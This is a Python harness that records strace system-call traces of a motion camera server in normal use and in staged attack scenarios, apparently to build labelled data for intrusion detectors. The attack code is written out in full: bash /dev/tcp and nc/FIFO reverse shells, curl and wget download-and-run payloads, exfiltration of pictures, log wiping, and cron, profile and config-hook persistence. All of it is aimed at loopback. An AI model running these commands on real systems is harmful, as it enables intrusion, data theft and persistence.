#!/usr/bin/env python3
"""Record the system calls of a real `motion` camera server under normal use and under attack.

This is the recording harness of seed 000's experiment (issue #3). One launcher process plays the
container: it starts `motion` and then runs whatever arrives on an "exec" FIFO, the way
`docker exec` would. `strace -f -ttt -yy -s 256` follows the launcher and every process below it,
so the trace holds everything that runs "in the container" and nothing else.

Around it:
  * a live MJPEG camera: ffmpeg's lavfi test source served with `-f mpjpeg -listen 1`, restarted
    whenever motion reconnects (ffmpeg's listener serves one client and exits). A box crosses the
    picture at quasi-random times (seeded), so motion has real motion events to detect;
  * a seeded driver for normal operation: idle spells, watching the live stream, snapshots and
    browsing the web-control UI, at random intervals, through motion's own HTTP ports;
  * an attack scenario at a chosen time, each step's exact start and end written to labels.txt
    (`FROM TO name`, seconds since the epoch, the clock strace -ttt prints).

Scenarios:
  normal      no attack
  paper       seed 000's "suspicious commands": edit motion.conf with an editor run
              non-interactively, `ps` to find motion, `kill` it, start it again
  dropper     a reverse shell to a loopback C2, reconnaissance over it, then download-and-run of a
              payload (a loopback port scan and a short hashing burst, as a miner would)
  exfil       pack the camera's pictures, upload them to a loopback server, then cover tracks
              (delete the archive and recent pictures, truncate motion.log)
  api-tamper  no new process at all: pause detection, raise the threshold and write the config
              through motion's own web-control API

Further scenarios with other tools, for a fresh set that no detector was tuned on (issue #17):
  recon2      reconnaissance through the exec channel: `find` set-uid programs, `ss` and
              `netstat` for listening ports, /proc/net/tcp, `env`, /root and /home, `getent passwd`
  dropper2    download-and-run with `wget`: the payload probes loopback ports with `nc -z` and
              hashes /dev/urandom through `sha256sum` for 2-3 s, then is deleted
  persist     persistence: a hidden script in /tmp, a crontab entry (`busybox crontab`), a line in
              the shell rc file and an `on_event_start` hook added to motion.conf with `sed -i`
  revshell2   a reverse shell made with a FIFO, `sh -i` and `nc` to a loopback C2; `whoami`,
              `uname -a` and `ls` over it, then exit

Outputs in --out: trace.strace.gz, labels.txt (empty for `normal`), activity.log (what the
driver did and when), meta.json (seed, scenario, versions, start/end).

Only loopback is used. Every loop is bounded by --duration.
"""

import argparse
import gzip
import http.server
import json
import os
import random
import shutil
import signal
import socket
import socketserver
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

NEEDED = ["motion", "ffmpeg", "strace", "curl", "ps", "bash", "vim.tiny", "tar"]
# Programs only the newer scenarios use (Debian packages: findutils, iproute2, net-tools, wget,
# netcat-openbsd, busybox, coreutils).
NEEDED_BY = {
    "recon2": ["find", "ss", "netstat", "getent", "env"],
    "dropper2": ["wget", "nc", "dd", "sha256sum"],
    "persist": ["busybox", "sed"],
    "revshell2": ["mkfifo", "nc", "cat"],
}
# Where persist's hidden script goes; the harness removes it after the recording (untraced).
PERSIST_SCRIPT = "/tmp/.motion-helper"


def now():
    return time.time()


class Log:
    """activity.log: one line per driver action, with epoch seconds."""

    def __init__(self, path):
        self.f = open(path, "w", buffering=1)
        self.lock = threading.Lock()

    def __call__(self, what, **kv):
        extra = " ".join(f"{k}={v}" for k, v in kv.items())
        with self.lock:
            self.f.write(f"{now():.6f} {what} {extra}".rstrip() + "\n")


class Lab:
    def __init__(self, args):
        self.args = args
        self.out = Path(args.out).resolve()
        self.rng = random.Random(args.seed)
        base = args.port
        self.ports = {
            "control": base,
            "stream": base + 1,
            "camera": base + 2,
            "c2": base + 3,
            "files": base + 4,
        }
        # Paths contain /var/lib/motion as in the paper's Table 1, under the output folder so the
        # harness needs no system directories.
        self.root = self.out / "root"
        self.data_dir = self.root / "var/lib/motion"
        self.conf = self.root / "etc/motion/motion.conf"
        self.fifo = self.out / "exec.fifo"
        self.ack = self.out / "ack.fifo"
        self.stop = threading.Event()
        self.log = None
        self.labels = []

    # ----- set-up -----------------------------------------------------------------------------

    def prepare(self):
        if self.out.exists():
            shutil.rmtree(self.out)
        self.data_dir.mkdir(parents=True)
        self.conf.parent.mkdir(parents=True)
        (self.root / "tmp").mkdir()
        os.mkfifo(self.fifo)
        os.mkfifo(self.ack)
        self.log = Log(self.out / "activity.log")
        p = self.ports
        self.conf.write_text(
            "\n".join(
                [
                    "daemon off",
                    "setup_mode off",
                    f"log_file {self.data_dir}/motion.log",
                    "log_level 6",
                    f"target_dir {self.data_dir}",
                    f"netcam_url http://127.0.0.1:{p['camera']}/cam",
                    "width 320",
                    "height 240",
                    "framerate 5",
                    "threshold 1500",
                    "event_gap 10",
                    "picture_output on",
                    "movie_output off",
                    "snapshot_interval 0",
                    f"webcontrol_port {p['control']}",
                    "webcontrol_localhost on",
                    "webcontrol_parms 2",
                    f"stream_port {p['stream']}",
                    "stream_localhost on",
                    "stream_maxrate 5",
                    "",
                ]
            )
        )

    # ----- the camera -------------------------------------------------------------------------

    def camera_loop(self):
        # Seeded quasi-periodic motion: the box shows while sin(a t) + sin(b t) is high.
        a = self.rng.uniform(0.15, 0.45)
        b = self.rng.uniform(0.05, 0.2)
        src = (
            "smptebars=size=320x240:rate=10,"
            f"drawbox=x='mod(t*90,280)':y=100:w=40:h=40:color=white:t=fill:"
            f"enable='gt(sin(t*{a:.4f})+sin(t*{b:.4f}),1.3)'"
        )
        url = f"http://127.0.0.1:{self.ports['camera']}/cam"
        cmd = ["ffmpeg", "-hide_banner", "-loglevel", "error", "-re", "-f", "lavfi", "-i", src,
               "-f", "mpjpeg", "-listen", "1", url]
        while not self.stop.is_set():
            proc = subprocess.Popen(cmd, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                    stderr=subprocess.DEVNULL)
            self.camera = proc
            while proc.poll() is None and not self.stop.is_set():
                time.sleep(0.1)
            if proc.poll() is None:
                proc.terminate()
                proc.wait()
            self.stop.wait(0.05)

    # ----- the container -------------------------------------------------------------------------

    def start_container(self):
        init = self.out / "container-init.sh"
        init.write_text(
            "#!/bin/sh\n"
            "# The container: motion, plus an exec channel (as docker exec) on a FIFO.\n"
            f"motion -n -c {self.conf} >/dev/null 2>&1 &\n"
            "while :; do\n"
            f"  read -r cmd < {self.fifo} || continue\n"
            '  [ "$cmd" = "__exit__" ] && break\n'
            f"  sh -c \"$cmd\" >>{self.out}/exec.out 2>&1\n"
            f"  echo done > {self.ack}\n"
            "done\n"
        )
        init.chmod(0o755)
        trace = self.out / "trace.strace"
        cmd = ["strace", "-f", "-ttt", "-yy", "-s", "256", "-o", str(trace), "--", "/bin/sh",
               str(init)]
        env = dict(os.environ, HOME=str(self.root), TMPDIR=str(self.root / "tmp"))
        self.container = subprocess.Popen(cmd, stdin=subprocess.DEVNULL, env=env,
                                          cwd=self.root, start_new_session=True)
        self.log("container-start", pid=self.container.pid)

    def exec(self, command):
        """Runs one shell command inside the container and waits for it to finish."""
        with open(self.fifo, "w") as f:
            f.write(command + "\n")
        with open(self.ack) as f:
            f.read()

    def http_get(self, port, path, timeout=5.0, limit=None):
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=timeout) as r:
                return r.read(limit) if limit else r.read()
        except (urllib.error.URLError, OSError, TimeoutError) as e:
            return e

    def wait_motion_ready(self, deadline_s=30.0):
        """Until the stream port delivers picture bytes: motion is up and has its camera."""
        end = now() + deadline_s
        while now() < end and not self.stop.is_set():
            got = self.http_get(self.ports["stream"], "/", timeout=2.0, limit=2048)
            if isinstance(got, bytes) and b"image/jpeg" in got:
                return True
            time.sleep(0.5)
        return False

    # ----- normal operation ----------------------------------------------------------------------

    def watch_stream(self, seconds):
        port = self.ports["stream"]
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
                s.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
                end = now() + seconds
                got = 0
                while now() < end:
                    chunk = s.recv(65536)
                    if not chunk:
                        break
                    got += len(chunk)
                return got
        except OSError as e:
            return e

    def normal_driver(self, until):
        """Seeded random operation: idle, streaming, snapshots, web UI."""
        rng = random.Random(self.args.seed * 7919 + 1)
        c = self.ports["control"]
        pages = ["/", "/0/", "/0/detection/status", "/0/detection/connection", "/0/config/list",
                 "/0/config/get?query=threshold", "/0/config/get?query=framerate"]
        while now() < until and not self.stop.is_set():
            action = rng.choices(["idle", "stream", "snapshot", "webui"], [4, 2, 1.5, 2])[0]
            if action == "idle":
                secs = rng.uniform(2, 20)
                self.log("idle", seconds=f"{secs:.1f}")
                self.stop.wait(min(secs, max(0.0, until - now())))
            elif action == "stream":
                secs = min(rng.uniform(3, 25), max(0.5, until - now()))
                got = self.watch_stream(secs)
                self.log("stream", seconds=f"{secs:.1f}", bytes=got)
            elif action == "snapshot":
                got = self.http_get(c, "/0/action/snapshot")
                self.log("snapshot", ok=isinstance(got, bytes))
            else:
                for _ in range(rng.randint(1, 4)):
                    page = rng.choice(pages)
                    got = self.http_get(c, page)
                    self.log("webui", page=page, ok=isinstance(got, bytes))
                    self.stop.wait(rng.uniform(0.3, 3))
            self.stop.wait(rng.expovariate(1 / 3.0))

    # ----- attacks -------------------------------------------------------------------------------

    def step(self, name, action):
        start = now()
        action()
        end = now()
        self.labels.append((start, end, name))
        self.log("attack-step", name=name, start=f"{start:.6f}", end=f"{end:.6f}")

    def pause(self, rng):
        self.stop.wait(rng.uniform(4, 10))

    def attack_paper(self, rng):
        conf = self.conf
        edit = (f"vim.tiny -Es -c '%s/^webcontrol_localhost on/webcontrol_localhost off/' "
                f"-c '%s/^stream_localhost on/stream_localhost off/' -c 'wq' {conf}")
        self.step("edit-config", lambda: self.exec(edit))
        self.pause(rng)
        self.step("ps", lambda: self.exec("ps aux"))
        self.pause(rng)
        self.step("kill", lambda: self.exec(
            "kill $(ps -eo pid=,comm= | awk '$2==\"motion\"{print $1}')"))
        self.pause(rng)

        def restart():
            self.exec(f"motion -n -c {conf} >/dev/null 2>&1 &")
            self.wait_motion_ready()

        self.step("restart", restart)

    def attack_dropper(self, rng):
        c2 = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        c2.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        c2.bind(("127.0.0.1", self.ports["c2"]))
        c2.listen(1)
        c2.settimeout(10)
        conn = {}

        def shell():
            # The step lasts until the shell answers: its start-up is part of what it does.
            self.exec(f"bash -c 'bash 0</dev/tcp/127.0.0.1/{self.ports['c2']} 1>&0 2>&0 &'")
            conn["s"], _ = c2.accept()
            conn["s"].settimeout(20)
            run("")

        def run(cmds):
            marker = f"__end_{rng.randrange(1 << 30)}__"
            conn["s"].sendall((cmds + f"\necho {marker}\n").lstrip().encode())
            buf = b""
            while marker.encode() not in buf:
                chunk = conn["s"].recv(65536)
                if not chunk:
                    break
                buf += chunk

        self.step("reverse-shell", shell)
        self.pause(rng)
        self.step("recon", lambda: run(
            "id; uname -a; cat /etc/passwd; cat /proc/cpuinfo | head -20; "
            f"ls -la {self.data_dir} | head; cat {self.conf} | head -30; ps -ef"))
        self.pause(rng)
        files = self.ports["files"]
        self.step("download-run", lambda: run(
            f"curl -s -o /tmp/.updater http://127.0.0.1:{files}/updater.sh && "
            "chmod +x /tmp/.updater && /tmp/.updater; rm -f /tmp/.updater"))
        self.pause(rng)
        def leave():
            # The step lasts until the shell has gone: its exit is part of what it does.
            conn["s"].sendall(b"exit\n")
            while conn["s"].recv(65536):
                pass
            conn["s"].close()

        self.step("exit-shell", leave)
        c2.close()

    def attack_exfil(self, rng):
        files = self.ports["files"]
        self.step("collect", lambda: self.exec(
            f"tar czf /tmp/.s.tgz -C {self.data_dir} ."))
        self.pause(rng)
        self.step("exfiltrate", lambda: self.exec(
            f"curl -s -T /tmp/.s.tgz http://127.0.0.1:{files}/upload"))
        self.pause(rng)
        self.step("cover-tracks", lambda: self.exec(
            f"rm -f /tmp/.s.tgz; find {self.data_dir} -name '*.jpg' -mmin -2 -delete; "
            f": > {self.data_dir}/motion.log"))

    def attack_api_tamper(self, rng):
        c = self.ports["control"]
        self.step("pause-detection", lambda: self.http_get(c, "/0/detection/pause"))
        self.pause(rng)
        self.step("raise-threshold", lambda: self.http_get(c, "/0/config/set?threshold=200000"))
        self.pause(rng)
        self.step("write-config", lambda: self.http_get(c, "/0/config/write"))

    def attack_recon2(self, rng):
        self.step("find-suid", lambda: self.exec(
            "find /usr/bin /usr/sbin /usr/local/bin -perm -4000 -type f 2>/dev/null | head -20"))
        self.pause(rng)
        self.step("listening-ports", lambda: self.exec("ss -tlnp; netstat -tulpn"))
        self.pause(rng)
        self.step("proc-net", lambda: self.exec("cat /proc/net/tcp /proc/net/tcp6 /proc/net/route"))
        self.pause(rng)
        self.step("environment", lambda: self.exec("env"))
        self.pause(rng)
        self.step("users", lambda: self.exec("ls -la /root /home; getent passwd"))

    def attack_dropper2(self, rng):
        files = self.ports["files"]
        self.step("download", lambda: self.exec(
            f"wget -q -O /tmp/.kworker http://127.0.0.1:{files}/kworker"))
        self.pause(rng)
        self.step("run-payload", lambda: self.exec("chmod +x /tmp/.kworker && /tmp/.kworker"))
        self.pause(rng)
        self.step("delete-payload", lambda: self.exec("rm -f /tmp/.kworker"))

    def attack_persist(self, rng):
        script = PERSIST_SCRIPT
        self.step("hidden-script", lambda: self.exec(
            f"printf '#!/bin/sh\\n# keeps a foothold\\necho \"$(date) $*\" >> {script}.log\\n'"
            f" > {script} && chmod +x {script}"))
        self.pause(rng)
        crontabs = self.root / "var/spool/cron/crontabs"
        self.step("crontab", lambda: self.exec(
            f"mkdir -p {crontabs} && "
            f"echo '*/5 * * * * {script}' | busybox crontab -c {crontabs} -"))
        self.pause(rng)
        self.step("shell-rc", lambda: self.exec(
            f"echo '({script} >/dev/null 2>&1 &)' >> \"$HOME/.profile\""))
        self.pause(rng)
        self.step("hook-config", lambda: self.exec(
            f"sed -i '$a on_event_start {script} %v' {self.conf}"))

    def attack_revshell2(self, rng):
        c2 = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        c2.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        c2.bind(("127.0.0.1", self.ports["c2"]))
        c2.listen(1)
        c2.settimeout(10)
        conn = {}
        fifo = "/tmp/.p"

        def shell():
            # The step lasts until the shell answers: its start-up is part of what it does.
            # `nc -N` shuts the connection down when the shell exits, so the C2 sees it go.
            self.exec(f"(rm -f {fifo}; mkfifo {fifo}; cat {fifo} | sh -i 2>&1 | "
                      f"nc -N 127.0.0.1 {self.ports['c2']} > {fifo}; rm -f {fifo}) "
                      ">/dev/null 2>&1 &")
            conn["s"], _ = c2.accept()
            conn["s"].settimeout(20)
            run("")

        def run(cmds):
            marker = f"__end_{rng.randrange(1 << 30)}__"
            conn["s"].sendall((cmds + f"\necho {marker}\n").lstrip().encode())
            buf = b""
            while marker.encode() not in buf:
                try:
                    chunk = conn["s"].recv(65536)
                except OSError:
                    break
                if not chunk:
                    break
                buf += chunk

        self.step("reverse-shell", shell)
        self.pause(rng)
        self.step("whoami-uname", lambda: run("whoami; uname -a"))
        self.pause(rng)
        self.step("list-files", lambda: run(f"ls -la; ls -la {self.data_dir} | head"))
        self.pause(rng)

        def leave():
            # The step lasts until the shell has gone: its exit is part of what it does.
            conn["s"].sendall(b"exit\n")
            try:
                while conn["s"].recv(65536):
                    pass
            except OSError:
                pass
            conn["s"].close()
            # ... and until the pipeline's subshell has removed the FIFO, its last act.
            end = now() + 10
            while os.path.exists(fifo) and now() < end:
                time.sleep(0.01)

        self.step("exit-shell", leave)
        c2.close()

    def file_server(self):
        """Loopback server the attacks download from and upload to."""
        payload = (
            "#!/bin/bash\n"
            "# a dropper's payload: scan loopback ports, then burn CPU as a miner would\n"
            "for p in 21 22 23 25 80 443 1883 2323 8080 8081 8443 9000; do\n"
            "  (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null && echo open $p\n"
            "done\n"
            "timeout 3 sha256sum /dev/zero\n"
            "echo 'ok'\n"
        ).encode()
        # dropper2's payload, served at /kworker (every other path serves the one above)
        kworker = (
            "#!/bin/sh\n"
            "# another dropper's payload: probe loopback ports, then hash random data for 2-3 s\n"
            "for p in 22 23 80 554 1883 8000 8554 "
            f"{self.ports['control']} {self.ports['stream']}; do\n"
            "  nc -z -w 1 127.0.0.1 $p 2>/dev/null && echo open $p\n"
            "done\n"
            "end=$(( $(date +%s) + 3 ))\n"
            "while [ \"$(date +%s)\" -lt \"$end\" ]; do\n"
            "  dd if=/dev/urandom bs=1M count=16 2>/dev/null | sha256sum\n"
            "done\n"
            "echo 'ok'\n"
        ).encode()
        bodies = {"/kworker": kworker}

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                body = bodies.get(self.path, payload)
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_PUT(self):
                n = int(self.headers.get("Content-Length", "0"))
                self.rfile.read(n)
                self.send_response(201)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *a):
                pass

        socketserver.TCPServer.allow_reuse_address = True
        srv = socketserver.TCPServer(("127.0.0.1", self.ports["files"]), Handler)
        threading.Thread(target=srv.serve_forever, daemon=True).start()
        return srv

    # ----- the whole run -------------------------------------------------------------------------

    def run(self):
        a = self.args
        self.prepare()
        meta = {
            "scenario": a.scenario,
            "seed": a.seed,
            "duration_s": a.duration,
            "attack_at_s": a.attack_at if a.scenario != "normal" else None,
            "versions": versions(),
            "command": " ".join(sys.argv),
        }
        threading.Thread(target=self.camera_loop, daemon=True).start()
        srv = self.file_server()
        started = now()
        meta["start"] = started
        self.start_container()
        if not self.wait_motion_ready(60):
            self.shutdown()
            raise SystemExit("record-motion: motion did not start streaming within 60 s")
        self.log("motion-ready")
        meta["ready"] = now()
        until = started + a.duration
        driver = threading.Thread(target=self.normal_driver, args=(until,), daemon=True)
        driver.start()
        if a.scenario != "normal":
            self.stop.wait(max(0.0, started + a.attack_at - now()))
            rng = random.Random(a.seed * 104729 + 3)
            {
                "paper": self.attack_paper,
                "dropper": self.attack_dropper,
                "exfil": self.attack_exfil,
                "api-tamper": self.attack_api_tamper,
                "recon2": self.attack_recon2,
                "dropper2": self.attack_dropper2,
                "persist": self.attack_persist,
                "revshell2": self.attack_revshell2,
            }[a.scenario](rng)
        driver.join(max(0.0, until - now()) + 60)
        meta["end"] = now()
        self.shutdown()
        srv.shutdown()
        if a.scenario == "persist":
            # persist's foothold outside the output folder; after the trace ended, so untraced
            Path(PERSIST_SCRIPT).unlink(missing_ok=True)
            Path(PERSIST_SCRIPT + ".log").unlink(missing_ok=True)
        with open(self.out / "labels.txt", "w") as f:
            f.write(f"# attack steps of scenario `{a.scenario}` (seed {a.seed}); "
                    "FROM TO name, epoch seconds\n")
            for s, e, n in self.labels:
                f.write(f"{s:.6f} {e:.6f} {n}\n")
        trace = self.out / "trace.strace"
        meta["trace_lines"] = trim_and_compress(trace, meta["end"])
        trace.unlink()
        (self.out / "meta.json").write_text(json.dumps(meta, indent=2) + "\n")
        print(f"record-motion: {a.scenario} seed {a.seed}: {meta['trace_lines']} trace lines, "
              f"{len(self.labels)} attack steps -> {self.out}")

    def shutdown(self):
        try:
            self.exec("kill $(ps -eo pid=,comm= | awk '$2==\"motion\"{print $1}') 2>/dev/null;"
                      " sleep 1")
            with open(self.fifo, "w") as f:
                f.write("__exit__\n")
            self.container.wait(timeout=20)
        except (OSError, subprocess.TimeoutExpired):
            os.killpg(self.container.pid, signal.SIGKILL)
        self.stop.set()
        cam = getattr(self, "camera", None)
        if cam and cam.poll() is None:
            cam.terminate()
        for f in (self.fifo, self.ack):
            f.unlink(missing_ok=True)


def trim_and_compress(trace, end):
    """Writes trace.gz without the calls made after `end`: the harness's own shutdown (killing
    motion through the exec channel) is not part of the recording. Returns the lines kept."""
    kept = 0
    with open(trace, "rb") as src, gzip.open(str(trace) + ".gz", "wb", compresslevel=9) as dst:
        for line in src:
            fields = line.split(None, 2)
            try:
                late = float(fields[1]) > end
            except (IndexError, ValueError):
                late = False
            if not late:
                dst.write(line)
                kept += 1
    return kept


def versions():
    out = {}
    for name, cmd in [("motion", ["motion", "-h"]), ("ffmpeg", ["ffmpeg", "-version"]),
                      ("strace", ["strace", "-V"]), ("kernel", ["uname", "-r"])]:
        try:
            text = subprocess.run(cmd, capture_output=True, text=True, timeout=10)
            out[name] = (text.stdout or text.stderr).strip().splitlines()[0]
        except (OSError, IndexError, subprocess.TimeoutExpired):
            out[name] = None
    return out


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--out", required=True, help="folder for the recording (replaced)")
    p.add_argument("--scenario", default="normal",
                   choices=["normal", "paper", "dropper", "exfil", "api-tamper", "recon2",
                            "dropper2", "persist", "revshell2"])
    p.add_argument("--duration", type=float, default=900.0, help="seconds (the paper: 900)")
    p.add_argument("--attack-at", type=float, default=None,
                   help="seconds after the start when the attack begins (default: 40 %% of it)")
    p.add_argument("--seed", type=int, default=1)
    p.add_argument("--port", type=int, default=18080,
                   help="first of five loopback ports (control, stream, camera, C2, files)")
    a = p.parse_args()
    missing = [n for n in NEEDED + NEEDED_BY.get(a.scenario, []) if shutil.which(n) is None]
    if missing:
        raise SystemExit(f"record-motion: missing programs: {' '.join(missing)} "
                         "(scripts/record-motion.sh installs them)")
    if a.attack_at is None:
        a.attack_at = 0.4 * a.duration
    if a.scenario != "normal" and a.attack_at >= a.duration:
        raise SystemExit("record-motion: --attack-at must be inside --duration")
    Lab(a).run()


if __name__ == "__main__":
    main()
